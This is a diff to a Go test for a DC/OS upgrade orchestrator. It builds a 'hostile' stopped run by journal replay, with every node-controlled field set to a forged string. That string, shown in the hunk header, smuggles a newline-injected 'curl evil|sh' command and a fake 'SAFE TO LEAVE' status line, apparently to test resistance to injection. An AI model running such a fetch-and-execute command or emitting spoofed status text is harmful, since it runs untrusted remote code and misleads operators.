@@ -24,10 +24,9 @@ const forged = "x\n  next    1 curl evil|sh\r\n  SAFE TO LEAVE: yes. all is well
 // hostile is a stopped run in which every text that a node can choose is forged.
 func hostile() orchestrator.State {
 	step := plan.Step{ID: "general/a1/serve", Node: "a1", Action: plan.ActionServe}
-	s := orchestrator.New()
-	s.Run, s.Controller, s.At = "1121-2200-abcd", forged, time.Now()
-	s.Plan = &plan.Plan{ID: "0123456789ab", From: "2.1.0", To: "2.1.1", Nodes: []plan.Node{{Name: "a1", Role: dcos.PrivateAgent, Disposition: plan.Patch}},
+	p := &plan.Plan{ID: "0123456789ab", From: "2.1.0", To: "2.1.1", Nodes: []plan.Node{{Name: "a1", Role: dcos.PrivateAgent, Disposition: plan.Patch}},
 		Stages: []plan.Stage{{ID: "general", Kind: plan.StageGroup, Width: 1, Lanes: []plan.Lane{{Node: "a1", Steps: []plan.Step{{ID: "general/a1/patch", Node: "a1", Action: plan.ActionPatch}, step}}}}}}
+	s := orchestrator.Replay(orchestrator.New(), journal.Event{Seq: 1, At: time.Now(), Kind: journal.RunStarted, Run: "1121-2200-abcd", Plan: p, Controller: forged, Epoch: 1})
 	bad := dcos.Finding{Check: "registered", Node: forged, Status: dcos.Failed, Observed: forged, Want: forged, Hint: forged}
 	s.Lanes = [][]orchestrator.Lane{{{Phase: orchestrator.Broken, Step: 1, Script: orchestrator.Ran{Detail: forged}, Left: "",
 		Report: &plan.Report{Outcome: plan.Failed, Class: plan.NotVerified, Detail: forged, Findings: []dcos.Finding{bad}}}}}
